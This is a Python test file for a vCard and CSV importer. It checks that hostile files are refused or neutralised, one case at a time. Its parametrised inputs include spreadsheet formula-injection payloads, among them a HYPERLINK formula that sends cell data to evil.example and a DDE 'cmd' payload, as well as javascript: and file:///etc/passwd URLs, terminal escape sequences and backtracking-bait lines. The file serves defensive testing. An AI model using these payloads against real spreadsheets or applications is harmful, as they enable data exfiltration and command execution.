"""Hostile import files: each is refused or tamed, and what is good beside it goes in.

Nothing here measures time; a reader whose effort grows faster than the file would not end.
"""

from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from pds.db import migrate, open_plain
from pds.vault.files import MIGRATIONS
from pds.vault.imports import ImportFailed, Source, apply, plan, source
from pds.vault.records import Records
from tests.importing import Reading, make_plan, read_csv, read_vcard

GOOD = b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Good\r\nEND:VCARD\r\n"


@pytest.fixture
def records() -> Iterator[Records]:
    conn = open_plain(":memory:")
    migrate(conn, MIGRATIONS, application_id=7)
    yield Records(conn, clock=lambda: datetime(2026, 11, 21, tzinfo=UTC))
    conn.close()


def names(reading: Reading) -> list[object]:
    return [draft.fields.get("name") for draft in reading.drafts]


def codes(reading: Reading) -> list[tuple[int, str]]:
    return [(problem.line, problem.code) for problem in reading.problems]


def around(bad: bytes) -> Reading:
    """The bad thing between two good cards."""
    return read_vcard(GOOD + bad + GOOD)


# --- spreadsheet formulas -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example?"&A1)',
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "=cmd|'/C calc'!A0",
        "\t=1+1",
    ],
)
def test_attack_63_formula_is_text(cell: str, records: Records) -> None:
    """A cell that is a formula is kept letter for letter, and is searched and shown as text."""
    quoted = '"' + cell.replace('"', '""') + '"'
    reading = read_csv(f"Date;Item;Price\n2026-01-02;{quoted};1.00\n".encode())
    apply(make_plan(reading, records), records)
    (value,) = records.values("purchases.item")
    assert value.value == cell.strip()


@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "=1290", "1290=1"])
def test_attack_63_formula_is_no_amount(cell: str) -> None:
    """Where a number is wanted a formula is refused, never computed."""
    reading = read_csv(f"Date;Item;Price\n2026-01-02;x;{cell}\n2026-01-02;y;1.00\n".encode())
    assert [draft.fields["item"] for draft in reading.drafts] == ["y"]
    assert codes(reading) == [(2, "csv.amount")]


# --- too much -------------------------------------------------------------------------------------


def test_attack_63_oversized_file(monkeypatch: pytest.MonkeyPatch) -> None:
    """What must be held whole (UTF-16 is recoded) has a cap, which is lowered here."""
    wide = (GOOD + GOOD).decode().encode("utf-16")
    assert names(read_vcard(wide)) == ["Good", "Good"]
    monkeypatch.setattr(source, "MAX_WHOLE", len(wide) - 1)
    with pytest.raises(ImportFailed) as caught:
        read_vcard(wide)
    assert caught.value.code == "import.too_large"


@pytest.mark.parametrize(
    ("read", "begin"), [(read_vcard, GOOD + b"NOTE:"), (read_csv, b"Item,Price\nx,1\n")]
)
def test_attack_63_file_that_is_one_line(
    read: Callable[[Path], Reading], begin: bytes, tmp_path: Path
) -> None:
    """Of a line of a gigabyte no more is held than shows that it is too long."""
    import tracemalloc

    big = tmp_path / "big"
    with big.open("wb") as stream:
        stream.write(begin)
        stream.truncate(256 * 1024 * 1024)
    tracemalloc.start()
    try:
        reading = read(big)
        assert tracemalloc.get_traced_memory()[1] < 8 * 1024 * 1024
    finally:
        tracemalloc.stop()
    assert len(reading.drafts) == 1
    assert reading.problem_count == 1


def test_attack_63_file_that_is_none(tmp_path: Path) -> None:
    """A named pipe is not waited for."""
    import os

    pipe = tmp_path / "pipe.vcf"
    os.mkfifo(pipe)
    with pytest.raises(ImportFailed) as caught:
        Source(pipe)
    assert caught.value.code == "import.unreadable"


def test_attack_63_card_of_a_million_properties() -> None:
    """The card is refused by count, the cards around it go in."""
    reading = around(b"BEGIN:VCARD\r\n" + b"TEL:1\r\n" * 1_000_000 + b"END:VCARD\r\n")
    assert names(reading) == ["Good", "Good"]
    assert codes(reading) == [(5, "vcard.too_many_properties")]


@pytest.mark.parametrize(
    "line",
    [
        b"NOTE:" + b"x\r\n " * 400_000,
        b"NOTE:" + b"x" * 1_000_000,
        b"NOTE;ENCODING=QUOTED-PRINTABLE:" + b"=\r\n" * 400_000 + b"x" * 200_000,
        b"NOTE;" + b"X=y;" * 100_000 + b":x",
    ],
    ids=["folded", "long", "soft", "parameters"],
)
def test_attack_63_endless_line(line: bytes) -> None:
    """A logical line beyond the limit ends its card, however it is spread over physical lines."""
    reading = around(b"BEGIN:VCARD\r\nFN:Bad\r\n" + line + b"\r\nEND:VCARD\r\n")
    assert names(reading) == ["Good", "Good"]
    assert codes(reading) == [(5, "vcard.line_too_long")]


@pytest.mark.parametrize(
    "line",
    [
        b"X;A=" + b"b," * 30_000,  # doubled the time of a known library with every value
        b"X" + b';A="' * 30_000,
        b"X" + b";" * 100_000,
        b"X" + b';A="b"' * 20_000,
        b"N:" + b"\\" * 100_001,
        b"N:" + b";" * 100_000,
        b"CATEGORIES:" + b"," * 100_000,
        b"URL:" + b"a." * 30_000 + b'"',
        b"URL:" + b"a" * 60_000 + b'"',
        b"EMAIL:" + b"a" * 60_000 + b"@",
    ],
    ids=range(10),
)
def test_attack_63_line_made_to_backtrack(line: bytes) -> None:
    """Lines made for regular expressions that try again; the card keeps its name."""
    reading = around(b"BEGIN:VCARD\r\nFN:Odd\r\n" + line + b"\r\nEND:VCARD\r\n")
    assert names(reading) == ["Good", "Odd", "Good"]


def test_attack_63_card_in_card_in_card() -> None:
    """Cards that open and never close swallow nothing of what follows."""
    reading = around(b"BEGIN:VCARD\r\nAGENT:\r\n" * 10_000)
    assert names(reading) == ["Good", "Good"]
    assert reading.problem_count == 5_000
    assert {problem.code for problem in reading.problems} == {"vcard.not_closed"}


def test_attack_63_list_of_problems_is_bounded() -> None:
    """A file of nothing but faults does not become a report larger than itself."""
    reading = read_vcard(GOOD + b"BEGIN:VCARD\r\n" * 20_000)
    assert len(reading.problems) == plan.MAX_PROBLEMS
    assert reading.problem_count == 20_000


def test_attack_63_too_many_records(monkeypatch: pytest.MonkeyPatch) -> None:
    """More records than the cap refuse the whole file (the cap is lowered here)."""
    monkeypatch.setattr(plan, "MAX_DRAFTS", 3)
    assert len(read_vcard(GOOD * 3).drafts) == 3
    for act in (
        lambda: read_vcard(GOOD * 4),
        lambda: read_csv(b"Item,Price\n" + b"x,1\n" * 4),
    ):
        with pytest.raises(ImportFailed) as caught:
            act()
        assert caught.value.code == "import.too_many"


@pytest.mark.parametrize(
    "row",
    [b"x" * 70_000 + b",1", b"," * 300, b"," * 5_000_000, b"x,1," + b"y," * 256],
    ids=["long cell", "many cells", "millions of cells", "one cell more"],
)
def test_attack_63_overlong_row(row: bytes) -> None:
    """A row of too many characters or cells is refused, the rows around it go in."""
    reading = read_csv(b"Item,Price\na,1\n" + row + b"\nb,2\n")
    assert [draft.fields["item"] for draft in reading.drafts] == ["a", "b"]
    assert codes(reading) == [(3, "csv.line_too_long")]


def test_attack_63_quotation_that_swallows_the_file() -> None:
    """A mark that is closed a thousand rows later, or never, costs one row."""
    reading = read_csv(b'Item,Price\na,1\n"open,2\n' + b"b,2\n" * 1000 + b'c",3\n')
    assert len(reading.drafts) == 1002
    assert codes(reading) == [(3, "csv.quote")]
    never = read_csv(b'Item,Price\na,1\n"open,2\n' + b"b,2\n" * 1000)
    assert len(never.drafts) == 1001
    assert codes(never) == [(3, "csv.quote")]


# --- not text -------------------------------------------------------------------------------------


def test_attack_63_nul_bytes() -> None:
    """NULs refuse the card or the row that holds them."""
    reading = around(b"BEGIN:VCARD\r\nFN:N\x00ul\r\nEND:VCARD\r\n")
    assert names(reading) == ["Good", "Good"]
    assert codes(reading) == [(5, "vcard.nul")]
    table = read_csv(b'Item,Price\na,1\nb\x00,2\n"c\n\x00",3\nd,4\n')
    assert [draft.fields["item"] for draft in table.drafts] == ["a", "d"]
    assert codes(table) == [(3, "csv.nul"), (4, "csv.nul")]


def test_attack_63_terminal_escapes() -> None:
    """Control sequences that would write on a terminal are left out with their field."""
    reading = around(b"BEGIN:VCARD\r\nFN:Odd\r\nTITLE:\x1b]0;owned\x07\r\nEND:VCARD\r\n")
    assert names(reading) == ["Good", "Odd", "Good"]
    assert codes(reading) == [(5, "import.field")]
    assert "owned" not in str(reading.problems)


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd"])
def test_attack_59_script_as_web_page(url: str) -> None:
    """Only web addresses become links; another scheme is left out."""
    reading = read_vcard(f"BEGIN:VCARD\nFN:A\nURL:{url}\nEND:VCARD\n".encode())
    assert reading.drafts[0].fields == {"name": "A"}
    assert codes(reading) == [(3, "import.field")]
